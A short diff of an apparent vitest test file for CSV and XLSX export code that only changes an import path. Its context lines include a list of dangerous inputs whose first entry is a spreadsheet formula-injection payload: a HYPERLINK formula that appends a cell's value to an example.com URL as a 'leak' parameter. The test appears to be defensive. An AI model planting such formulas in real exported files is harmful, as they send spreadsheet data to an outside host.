@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
-import { FORMULA_START, toCsv, toXlsx, type ExportTable } from './export';
+import { FORMULA_START, toCsv, toXlsx, type ExportTable } from './spreadsheet';
 
 const DANGEROUS = [
   '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
